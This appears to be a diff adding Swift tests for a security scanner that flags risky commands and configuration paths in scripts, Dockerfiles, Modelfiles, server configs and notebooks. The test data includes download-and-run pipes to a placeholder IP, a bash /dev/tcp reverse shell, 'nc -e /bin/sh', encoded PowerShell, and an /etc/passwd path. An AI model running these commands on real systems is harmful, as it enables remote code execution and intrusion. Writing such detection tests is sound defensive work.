@@ -1,0 +1,90 @@
+import AssayCore
+import ByteParsing
+import Scanning
+import Testing
+
+/// Commands, and the files that are made of them.
+@Suite struct CommandTests {
+    private func scan(_ text: String, _ name: String) -> FileReport {
+        FileScanner().scan(ByteRegion(Array(text.utf8)), path: name)
+    }
+
+    private func severity(_ text: String, _ name: String = "run.sh", of rule: String = "COMMAND-FETCHED-CODE")
+        -> Severity?
+    {
+        scan(text, name).findings.filter { $0.rule == rule }.map(\.severity).max()
+    }
+
+    @Test(arguments: [
+        ("curl http://198.51.100.7/a | sh\n", Severity.medium), ("wget -qO- http://example.net/a|sudo bash\n", .medium),
+        ("bash <(curl -s http://198.51.100.7/a)\n", .medium),
+        ("sh -c \"$(curl -fsSL http://198.51.100.7/a)\"\n", .medium),
+        ("echo aWQ= | base64 -d | python3\n", .medium), ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", .high),
+        ("nc -e /bin/sh 198.51.100.7 4444\n", .high), ("curl http://198.51.100.7/a \\\n  | sh\n", .medium),
+        ("curl -fsSL https://example.com/i.sh | sh\n", .low), ("iex (iwr http://198.51.100.7/a)\n", .medium),
+        ("powershell -enc aQBlAHgAIAAxAA==\n", .medium),
+        ("wget http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n", .medium),
+    ])
+    func runsWhatItFetches(_ text: String, _ expected: Severity) {
+        #expect(severity(text) == expected, "\(text)")
+    }
+
+    @Test(arguments: [
+        "curl https://example.com/data.tar.gz | tar xz\n", "# curl http://198.51.100.7/a | sh\n",
+        "curl -s http://localhost:8000/v1/models | python -m json.tool | head\n", "cat a.json | python3 -m json.tool\n",
+        "nc -z localhost 5432\n", "echo $CERT | base64 -d > cert.pem\n", "wget https://example.com/x && chmod +x x\n",
+    ])
+    func ordinaryCommandsAreClean(_ text: String) {
+        #expect((severity(text) ?? .none) < .medium, "\(text)")
+    }
+
+    @Test func longLinesAreLookedIntoWhereItMatters() {
+        let filler = String(repeating: "var nc=1,e=2;f(\"-e\",nc);", count: 400)
+        #expect(severity(filler + "\n", "bundle.js") == nil)
+        #expect(
+            severity("true" + String(repeating: " ", count: 9_000) + "; curl http://198.51.100.7/a | sh\n") == .medium)
+    }
+
+    @Test func proseMayShowCommands() {
+        #expect(severity("# Install\n\n    curl http://198.51.100.7/a | sh\n", "README.md") == nil)
+    }
+
+    @Test func buildFilesAreReadByInstruction() {
+        let start = "FROM python:3.11\n"
+        #expect(severity(start + "RUN curl http://198.51.100.7/a | sh\n", "Dockerfile") == .medium)
+        #expect(
+            severity(start + "RUN apt-get update && \\\n  curl http://198.51.100.7/a | sh\n", "image.build") == .medium)
+        #expect(severity(start + "ADD http://198.51.100.7/a /a\n", "Dockerfile") == .medium)
+        #expect(
+            severity(
+                start + "RUN pip install x --index-url http://198.51.100.7/simple\n", "Dockerfile", of: "PACKAGE-SOURCE"
+            ) == .medium)
+        #expect(severity(start + "RUN curl -LsSf https://astral.sh/uv/install.sh | sh\n", "Dockerfile") == .low)
+        #expect(scan(start + "COPY . /app\nCMD [\"python\", \"a.py\"]\n", "Dockerfile").outcome == .clean)
+    }
+
+    @Test func modelfilesNameTheirWeights() {
+        let rest = "TEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n"
+        #expect(severity("FROM http://198.51.100.7/m.gguf\n" + rest, "Modelfile", of: "CONFIG-REDIRECT") == .medium)
+        #expect(severity("FROM a\nADAPTER /etc/passwd\n" + rest, "Modelfile", of: "CONFIG-PATH") == .high)
+        #expect(severity("FROM a\nADAPTER ../../x\n" + rest, "Modelfile", of: "CONFIG-PATH") == .medium)
+        #expect(scan("FROM ./m.gguf\n" + rest, "Modelfile").severity < .medium)
+    }
+
+    @Test func serversLoadWhatTheirConfigurationNames() {
+        #expect(severity("name: \"m\"\nbackend: \"../../evil\"\n", "config.pbtxt", of: "GRAPH-PATH") == .high)
+        #expect(
+            severity("name: \"m\"\ndefault_model_filename: \"libx.so\"\n", "config.pbtxt", of: "GRAPH-NATIVE-LIBRARY")
+                == .medium)
+        let operators = "name: \"m\"\nmodel_operations { op_library_filename: [ \"a.so\", \"/tmp/b.so\" ] }\n"
+        #expect(severity(operators, "config.pbtxt", of: "GRAPH-PATH") == .high)
+        #expect(
+            scan("name: \"m\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 8\n", "config.pbtxt").outcome == .clean)
+    }
+
+    @Test func cellsOfNotebooksMayBeShell() {
+        let cell =
+            #"{"nbformat":4,"cells":[{"cell_type":"code","source":["%%bash\n","curl http://198.51.100.7/a | sh"]}]}"#
+        #expect(severity(cell, "a.ipynb") == .medium)
+    }
+}
